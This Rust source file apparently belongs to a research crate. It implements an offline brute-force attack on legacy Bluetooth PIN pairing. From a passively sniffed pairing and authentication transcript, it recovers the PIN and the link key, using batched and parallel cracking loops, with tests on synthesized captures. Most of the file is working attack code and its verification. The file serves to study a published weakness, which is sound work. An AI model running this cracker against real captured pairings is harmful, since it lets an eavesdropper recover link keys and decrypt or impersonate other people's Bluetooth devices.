//! Offline PIN cracking against legacy (pre-SSP) pairing — the
//! Shaked–Wool-style analysis behind the paper's references 14/15 and
//! the stated reason SSP exists (§II-C: legacy pairing "has been recognized
//! as vulnerable to diverse attacks").
//!
//! A passive sniffer of one legacy pairing sees, in the clear:
//!
//! * `IN_RAND` — the `E22` input,
//! * both masked combination-key contributions `C_a = LK_RAND_a ⊕ K_init`
//!   and `C_b = LK_RAND_b ⊕ K_init`,
//! * a subsequent `LMP_au_rand` / `LMP_sres` authentication exchange.
//!
//! For every candidate PIN the attacker recomputes `K_init = E22(IN_RAND,
//! PIN, claimant)`, unmasks both `LK_RAND`s, rebuilds the combination key
//! with `E21`, and checks it against the observed `SRES`. A four-digit PIN
//! falls in at most 10⁴ trials.

use blap_crypto::batch::{
    e21_batch, encrypt_prime_batch, expand_addr_splat, Batch16, E1Batch, KeyScheduleBatch, LANES,
};
use blap_crypto::e1::{self, AugmentedPin};
use blap_types::{BdAddr, LinkKey};

use crate::runner::{parallel_search_scratch, Jobs};

/// The cleartext transcript of one legacy pairing plus one authentication,
/// as a passive sniffer records it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct LegacyPairingCapture {
    /// Pairing initiator's address (the `E21` "device A").
    pub initiator: BdAddr,
    /// Pairing responder's address — also the `E22` claimant.
    pub responder: BdAddr,
    /// The initiator's `IN_RAND`.
    pub in_rand: [u8; 16],
    /// Initiator's masked contribution `LK_RAND_a ⊕ K_init`.
    pub comb_initiator: [u8; 16],
    /// Responder's masked contribution `LK_RAND_b ⊕ K_init`.
    pub comb_responder: [u8; 16],
    /// Verifier's challenge from the authentication that followed.
    pub au_rand: [u8; 16],
    /// The prover's observed response. The prover is the responder (the
    /// initiator challenged it), so `E1` runs over the responder's address.
    pub sres: [u8; 4],
}

impl LegacyPairingCapture {
    /// Synthesizes the capture an eavesdropper would record for a pairing
    /// with the given PIN and randomness — the test/bench generator.
    pub fn synthesize(
        initiator: BdAddr,
        responder: BdAddr,
        pin: &[u8],
        in_rand: [u8; 16],
        lk_rand_a: [u8; 16],
        lk_rand_b: [u8; 16],
        au_rand: [u8; 16],
    ) -> Self {
        let k_init = e1::e22(&in_rand, pin, responder);
        let comb_initiator = xor16(&lk_rand_a, &k_init.to_bytes());
        let comb_responder = xor16(&lk_rand_b, &k_init.to_bytes());
        let key = combination_key(&lk_rand_a, initiator, &lk_rand_b, responder);
        let sres = e1::e1(&key, &au_rand, responder).sres;
        LegacyPairingCapture {
            initiator,
            responder,
            in_rand,
            comb_initiator,
            comb_responder,
            au_rand,
            sres,
        }
    }

    /// Reconstructs the link key a candidate PIN would have produced.
    pub fn key_for_pin(&self, pin: &[u8]) -> LinkKey {
        let k_init = e1::e22(&self.in_rand, pin, self.responder);
        let lk_rand_a = xor16(&self.comb_initiator, &k_init.to_bytes());
        let lk_rand_b = xor16(&self.comb_responder, &k_init.to_bytes());
        combination_key(&lk_rand_a, self.initiator, &lk_rand_b, self.responder)
    }

    /// Whether a candidate PIN reproduces the observed `SRES`.
    pub fn pin_matches(&self, pin: &[u8]) -> bool {
        self.check_pin(pin).is_some()
    }

    /// [`Self::pin_matches`], but returns the reconstructed link key on a
    /// hit so the caller need not recompute it — the crack loop's hit path
    /// previously ran the whole `E22`/`E21` chain a second time.
    pub fn check_pin(&self, pin: &[u8]) -> Option<LinkKey> {
        let key = self.key_for_pin(pin);
        (e1::e1(&key, &self.au_rand, self.responder).sres == self.sres).then_some(key)
    }
}

fn xor16(a: &[u8; 16], b: &[u8; 16]) -> [u8; 16] {
    core::array::from_fn(|i| a[i] ^ b[i])
}

/// Batched candidate verdicts against one capture: the E22/E21/E1
/// recomputation chain for [`LANES`] candidate PINs at once, over the
/// byte-sliced vector kernels in [`blap_crypto::batch`].
///
/// Construction hoists every candidate-independent input out of the inner
/// loop — the splatted masked combination words, both expanded device
/// addresses, and the authentication challenge are computed once per
/// challenge instead of once per candidate. The scalar
/// [`LegacyPairingCapture::check_pin`] path stays alive as the pinned
/// correctness reference; property tests assert the two agree verdict for
/// verdict.
pub struct PinCracker<'a> {
    capture: &'a LegacyPairingCapture,
    comb_initiator: Batch16,
    comb_responder: Batch16,
    addr_ext_initiator: Batch16,
    addr_ext_responder: Batch16,
    au_rand: Batch16,
}

impl<'a> PinCracker<'a> {
    /// Hoists the capture's candidate-independent inputs into splat form.
    pub fn new(capture: &'a LegacyPairingCapture) -> PinCracker<'a> {
        PinCracker {
            capture,
            comb_initiator: Batch16::splat(&capture.comb_initiator),
            comb_responder: Batch16::splat(&capture.comb_responder),
            addr_ext_initiator: expand_addr_splat(capture.initiator),
            addr_ext_responder: expand_addr_splat(capture.responder),
            au_rand: Batch16::splat(&capture.au_rand),
        }
    }

    /// The capture this cracker verifies against.
    pub fn capture(&self) -> &LegacyPairingCapture {
        self.capture
    }

    /// Scalar reference verdict (see [`LegacyPairingCapture::check_pin`]).
    pub fn check_pin(&self, pin: &[u8]) -> Option<LinkKey> {
        self.capture.check_pin(pin)
    }

    /// Runs the full recomputation chain for [`LANES`] candidates whose
    /// `E22` SAFER+ keys are packed in `pin_keys`, with `e22_y` the
    /// splatted candidate-independent `E22` cipher input
    /// ([`AugmentedPin::e22_input`], shared by every same-length PIN).
    ///
    /// Returns the bitmask of lanes whose reconstruction reproduces the
    /// observed `SRES` (bit `n` = lane `n`).
    pub fn check_batch(&self, e22_y: &Batch16, pin_keys: &Batch16) -> u16 {
        let k_init = encrypt_prime_batch(&KeyScheduleBatch::new(pin_keys), e22_y);
        let lk_rand_a = k_init.xor(&self.comb_initiator);
        let lk_rand_b = k_init.xor(&self.comb_responder);
        let ka = e21_batch(&lk_rand_a, &self.addr_ext_initiator);
        let kb = e21_batch(&lk_rand_b, &self.addr_ext_responder);
        let key = ka.xor(&kb);
        let out = E1Batch::new(&key).e1_output(&self.au_rand, &self.addr_ext_responder);
        out.match4_mask(&self.capture.sres)
    }
}

fn combination_key(
    lk_rand_a: &[u8; 16],
    addr_a: BdAddr,
    lk_rand_b: &[u8; 16],
    addr_b: BdAddr,
) -> LinkKey {
    let ka = e1::e21(lk_rand_a, addr_a);
    let kb = e1::e21(lk_rand_b, addr_b);
    LinkKey::new(xor16(&ka.to_bytes(), &kb.to_bytes()))
}

/// Result of a PIN-cracking run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CrackResult {
    /// The recovered PIN.
    pub pin: Vec<u8>,
    /// The link key it yields.
    pub link_key: LinkKey,
    /// How many candidates were tested before the hit.
    pub attempts: usize,
}

/// Candidates per work chunk in the parallel search: a multiple of the
/// batch width so chunk interiors split into whole batches, large enough
/// to amortize the scheduling atomics (a chunk is ~100 µs of batched
/// SAFER+ work) and small enough to keep the early exit tight.
const PIN_CHUNK: u64 = 512;

/// The longest PIN the E22 algorithm admits: the spec caps PINs at 16
/// bytes, so a numeric search space never has more than 16 digit
/// positions. Also the overflow bound for `pin_space_size` arithmetic —
/// `10 + 100 + … + 10^16` fits a `u64`, `10^20` does not.
pub const MAX_PIN_DIGITS: u32 = 16;

/// How many candidate PINs the numeric search space holds up to
/// `max_digits` digits: `10 + 100 + … + 10^max_digits`.
///
/// Panics past [`MAX_PIN_DIGITS`]: beyond the E22 bound the geometric sum
/// would silently wrap in release builds (`10^20 > u64::MAX`) and scan a
/// nonsense space.
fn pin_space_size(max_digits: u32) -> u64 {
    assert!(
        max_digits <= MAX_PIN_DIGITS,
        "max_digits {max_digits} exceeds the E22 bound of {MAX_PIN_DIGITS} digits"
    );
    let mut total = 0u64;
    let mut block = 10u64;
    for _ in 0..max_digits {
        total += block;
        block *= 10;
    }
    total
}

/// The ASCII PIN at a global candidate index (1-digit PINs first, then
/// 2-digit including leading zeros, and so on — the serial scan order).
#[cfg(test)]
fn pin_for_index(index: u64) -> Vec<u8> {
    let mut pin = Vec::new();
    set_pin_for_index(&mut pin, index);
    pin
}

/// Writes the PIN at `index` into an existing buffer, reusing its
/// allocation — workers reseed their odometer with this at non-contiguous
/// chunk boundaries instead of building a fresh `Vec`.
fn set_pin_for_index(pin: &mut Vec<u8>, mut index: u64) {
    let mut digits = 1usize;
    let mut block = 10u64;
    while index >= block {
        index -= block;
        block *= 10;
        digits += 1;
    }
    pin.clear();
    pin.resize(digits, b'0');
    for slot in pin.iter_mut().rev() {
        *slot = b'0' + (index % 10) as u8;
        index /= 10;
    }
}

/// Advances the ASCII candidate buffer in place — the odometer that
/// replaces a per-candidate `format!` allocation. Rolling over the whole
/// buffer ("99" → "000") enters the next PIN length.
fn advance_pin(pin: &mut Vec<u8>) {
    for slot in pin.iter_mut().rev() {
        if *slot < b'9' {
            *slot += 1;
            return;
        }
        *slot = b'0';
    }
    pin.push(b'0');
}

/// The first candidate index after `index` at which the PIN length grows —
/// the cumulative block boundaries 10, 110, 1110, … Batches never straddle
/// one, because every lane of a batch shares the `E22` augmentation of one
/// PIN length.
fn length_run_end(index: u64) -> u64 {
    let mut boundary = 10u64;
    let mut block = 10u64;
    while boundary <= index {
        block *= 10;
        boundary += block;
    }
    boundary
}

/// Brute-forces numeric PINs of up to `max_digits` digits against a
/// captured transcript. Returns the first PIN whose reconstruction matches
/// the observed `SRES`. Worker count comes from the environment
/// ([`Jobs::from_env`]); the result is identical at any parallelism.
pub fn crack_numeric_pin(capture: &LegacyPairingCapture, max_digits: u32) -> Option<CrackResult> {
    crack_numeric_pin_with(capture, max_digits, Jobs::from_env())
}

/// [`crack_numeric_pin`] with an explicit worker count.
///
/// The PIN space is partitioned into ascending fixed-size chunks; workers
/// claim chunks atomically and stand down once a hit below their next
/// chunk exists. The reported hit is the lowest candidate index over all
/// workers and `attempts` is derived from that index, so the result —
/// including the attempt count — is byte-identical to the serial scan even
/// if several PINs collide on the same `SRES`.
pub fn crack_numeric_pin_with(
    capture: &LegacyPairingCapture,
    max_digits: u32,
    jobs: Jobs,
) -> Option<CrackResult> {
    let cracker = PinCracker::new(capture);
    // Per-worker scratch: the odometer buffer, the index it is parked at,
    // and the per-PIN-length E22 context (augmentation template + splatted
    // cipher input), rebuilt only when the sweep crosses a length
    // boundary. Contiguous chunks keep counting; a gap (another worker
    // claimed the chunk between) reseeds the same buffers.
    type LenContext = Option<(usize, AugmentedPin, Batch16)>;
    let fresh = || (Vec::with_capacity(16), u64::MAX, None as LenContext);
    parallel_search_scratch(
        jobs,
        pin_space_size(max_digits),
        PIN_CHUNK,
        fresh,
        |(pin, parked_at, len_ctx), start, end| {
            if *parked_at != start {
                set_pin_for_index(pin, start);
            }
            let hit = |pin: &Vec<u8>, index: u64, link_key: LinkKey| {
                Some((
                    index,
                    CrackResult {
                        pin: pin.clone(),
                        link_key,
                        attempts: index as usize + 1,
                    },
                ))
            };
            let mut index = start;
            while index < end {
                // Whole batches within one PIN length; the odometer walks
                // the same ascending sequence the scalar scan does, so the
                // lowest flagged lane is exactly the serial first hit.
                let run_end = end.min(length_run_end(index));
                while index + LANES as u64 <= run_end {
                    if len_ctx.as_ref().map(|(l, _, _)| *l) != Some(pin.len()) {
                        let aug = AugmentedPin::new(pin, capture.responder);
                        let y = Batch16::splat(&aug.e22_input(&capture.in_rand));
                        *len_ctx = Some((pin.len(), aug, y));
                    }
                    let (_, aug, e22_y) = len_ctx.as_mut().expect("context just built");
                    let mut lane_keys = [[0u8; 16]; LANES];
                    for lane_key in lane_keys.iter_mut() {
                        aug.set_pin(pin);
                        *lane_key = aug.safer_key();
                        advance_pin(pin);
                    }
                    let mask = cracker.check_batch(e22_y, &Batch16::from_lanes(&lane_keys));
                    if mask != 0 {
                        let found = index + mask.trailing_zeros() as u64;
                        set_pin_for_index(pin, found);
                        let link_key = capture
                            .check_pin(pin)
                            .expect("batch verdict must agree with the scalar reference");
                        return hit(pin, found, link_key);
                    }
                    index += LANES as u64;
                }
                // Scalar tail: the candidates left before the length
                // boundary or chunk end — fewer than one batch.
                while index < run_end {
                    if let Some(link_key) = capture.check_pin(pin) {
                        return hit(pin, index, link_key);
                    }
                    advance_pin(pin);
                    index += 1;
                }
            }
            *parked_at = end;
            None
        },
    )
}

/// The serial, scalar-kernel reference scan: candidate by candidate over
/// [`LegacyPairingCapture::check_pin`], no batching. This is the pinned
/// semantics [`crack_numeric_pin_with`] must reproduce bit for bit; tests
/// diff the two (and the property tests diff per-candidate verdicts).
pub fn crack_numeric_pin_reference(
    capture: &LegacyPairingCapture,
    max_digits: u32,
) -> Option<CrackResult> {
    let mut pin = Vec::with_capacity(16);
    set_pin_for_index(&mut pin, 0);
    for index in 0..pin_space_size(max_digits) {
        if let Some(link_key) = capture.check_pin(&pin) {
            return Some(CrackResult {
                pin,
                link_key,
                attempts: index as usize + 1,
            });
        }
        advance_pin(&mut pin);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn capture_with_pin(pin: &[u8]) -> LegacyPairingCapture {
        LegacyPairingCapture::synthesize(
            "11:11:11:11:11:11".parse().expect("valid address"),
            "cc:cc:cc:cc:cc:cc".parse().expect("valid address"),
            pin,
            [0xA1; 16],
            [0xB2; 16],
            [0xC3; 16],
            [0xD4; 16],
        )
    }

    #[test]
    fn four_digit_pin_cracks() {
        let capture = capture_with_pin(b"4821");
        let result = crack_numeric_pin(&capture, 4).expect("pin found");
        assert_eq!(result.pin, b"4821");
        assert_eq!(result.link_key, capture.key_for_pin(b"4821"));
        assert!(result.attempts <= 11_110, "attempts {}", result.attempts);
    }

    #[test]
    fn short_pins_crack_almost_instantly() {
        let capture = capture_with_pin(b"07");
        let result = crack_numeric_pin(&capture, 4).expect("pin found");
        assert_eq!(result.pin, b"07");
        assert!(result.attempts <= 110);
    }

    #[test]
    fn wrong_pin_space_finds_nothing() {
        // An alphanumeric PIN is outside the numeric search space.
        let capture = capture_with_pin(b"zz!a");
        assert_eq!(crack_numeric_pin(&capture, 3), None);
    }

    #[test]
    fn candidate_enumeration_matches_serial_order() {
        // The odometer must walk the exact sequence the old nested
        // format! loops produced: "0".."9", "00".."99", "000"…
        let mut pin = pin_for_index(0);
        for index in 0..pin_space_size(3) {
            assert_eq!(pin, pin_for_index(index), "index {index}");
            advance_pin(&mut pin);
        }
        assert_eq!(pin_for_index(0), b"0");
        assert_eq!(pin_for_index(9), b"9");
        assert_eq!(pin_for_index(10), b"00");
        assert_eq!(pin_for_index(109), b"99");
        assert_eq!(pin_for_index(110), b"000");
        assert_eq!(pin_space_size(4), 11_110);
    }

    #[test]
    fn pin_space_size_covers_the_full_e22_range_without_overflow() {
        // The full 16-digit space is the largest the E22 bound admits; the
        // sum must come out exact, not wrapped.
        assert_eq!(pin_space_size(MAX_PIN_DIGITS), 11_111_111_111_111_110);
        assert_eq!(pin_space_size(0), 0);
    }

    #[test]
    #[should_panic(expected = "exceeds the E22 bound")]
    fn pin_space_size_past_e22_bound_panics_with_context() {
        // 10^20 overflows u64: before the bound check this panicked with a
        // bare multiply-overflow in debug and silently wrapped in release.
        pin_space_size(20);
    }

    #[test]
    fn parallel_crack_matches_serial() {
        let capture = capture_with_pin(b"4821");
        let serial = crack_numeric_pin_with(&capture, 4, Jobs::serial());
        for jobs in [2, 4, 8] {
            assert_eq!(
                crack_numeric_pin_with(&capture, 4, Jobs::new(jobs)),
                serial,
                "{jobs} jobs"
            );
        }
    }

    #[test]
    fn batch_crack_matches_scalar_reference() {
        // The batched sweep must be bit-identical to the serial scalar
        // reference scan — pin, link key, and attempt count.
        for pin in [b"0042".as_slice(), b"7".as_slice(), b"985".as_slice()] {
            let capture = capture_with_pin(pin);
            let reference = crack_numeric_pin_reference(&capture, 4);
            assert!(reference.is_some(), "reference finds {pin:?}");
            for jobs in [1, 3] {
                assert_eq!(
                    crack_numeric_pin_with(&capture, 4, Jobs::new(jobs)),
                    reference,
                    "{jobs} jobs vs reference for {pin:?}"
                );
            }
        }
    }

    #[test]
    fn six_digit_pin_cracks_identically_at_any_parallelism() {
        let capture = capture_with_pin(b"001873");
        let serial = crack_numeric_pin_with(&capture, 6, Jobs::serial()).expect("pin found");
        assert_eq!(serial.pin, b"001873");
        // 1..=5-digit blocks hold 111,110 candidates; "001873" is 1873
        // candidates into the 6-digit block.
        assert_eq!(serial.attempts, 111_110 + 1873 + 1);
        assert_eq!(serial.link_key, capture.key_for_pin(b"001873"));
        for jobs in [2, 8] {
            assert_eq!(
                crack_numeric_pin_with(&capture, 6, Jobs::new(jobs)),
                Some(serial.clone()),
                "{jobs} jobs"
            );
        }
    }

    #[test]
    fn pin_at_last_index_of_space_is_found() {
        // "99" sits at the very last index of the 2-digit space (109), and
        // the whole space (110) is smaller than one work chunk — the
        // chunk-larger-than-space degenerate case.
        let capture = capture_with_pin(b"99");
        let serial = crack_numeric_pin_with(&capture, 2, Jobs::serial()).expect("pin found");
        assert_eq!(serial.pin, b"99");
        assert_eq!(serial.attempts, 110);
        assert_eq!(
            crack_numeric_pin_with(&capture, 2, Jobs::new(8)),
            Some(serial)
        );
    }

    #[test]
    fn space_not_divisible_by_chunk_finds_last_candidate() {
        // The 3-digit space (1,110) is two full 512-chunks plus a short
        // 86-candidate tail; "999" is its final index.
        let capture = capture_with_pin(b"999");
        let serial = crack_numeric_pin_with(&capture, 3, Jobs::serial()).expect("pin found");
        assert_eq!(serial.pin, b"999");
        assert_eq!(serial.attempts, 1110);
        for jobs in [2, 8] {
            assert_eq!(
                crack_numeric_pin_with(&capture, 3, Jobs::new(jobs)),
                Some(serial.clone()),
                "{jobs} jobs"
            );
        }
    }

    #[test]
    fn length_run_end_walks_the_block_boundaries() {
        assert_eq!(length_run_end(0), 10);
        assert_eq!(length_run_end(9), 10);
        assert_eq!(length_run_end(10), 110);
        assert_eq!(length_run_end(109), 110);
        assert_eq!(length_run_end(110), 1110);
        assert_eq!(length_run_end(1110), 11_110);
        assert_eq!(length_run_end(111_109), 111_110);
        assert_eq!(length_run_end(111_110), 1_111_110);
    }

    #[test]
    fn check_batch_agrees_with_scalar_verdicts() {
        use blap_crypto::e1::AugmentedPin;
        // A batch whose lanes surround the planted PIN: exactly one lane
        // may be flagged, and it must be the scalar-confirmed one.
        let capture = capture_with_pin(b"4821");
        let cracker = PinCracker::new(&capture);
        let mut aug = AugmentedPin::new(b"4816", capture.responder);
        let e22_y = Batch16::splat(&aug.e22_input(&capture.in_rand));
        let mut lane_keys = [[0u8; 16]; LANES];
        let mut pins = Vec::new();
        for (lane, key) in lane_keys.iter_mut().enumerate() {
            let pin = format!("{:04}", 4816 + lane);
            aug.set_pin(pin.as_bytes());
            *key = aug.safer_key();
            pins.push(pin);
        }
        let mask = cracker.check_batch(&e22_y, &Batch16::from_lanes(&lane_keys));
        for (lane, pin) in pins.iter().enumerate() {
            assert_eq!(
                mask & (1 << lane) != 0,
                capture.check_pin(pin.as_bytes()).is_some(),
                "lane {lane} ({pin})"
            );
        }
        assert_eq!(mask, 1 << 5, "only 4821 matches");
    }

    #[test]
    fn cracked_key_matches_genuine_derivation() {
        // The key reconstructed from the PIN equals the key the honest
        // devices derived (synthesize + key_for_pin agree by construction;
        // this pins the unmask/rebuild path against a tampered transcript).
        let capture = capture_with_pin(b"1234");
        let honest = capture.key_for_pin(b"1234");
        let mut tampered = capture.clone();
        tampered.comb_responder[0] ^= 1;
        assert_ne!(tampered.key_for_pin(b"1234"), honest);
        assert!(!tampered.pin_matches(b"1234"));
    }
}
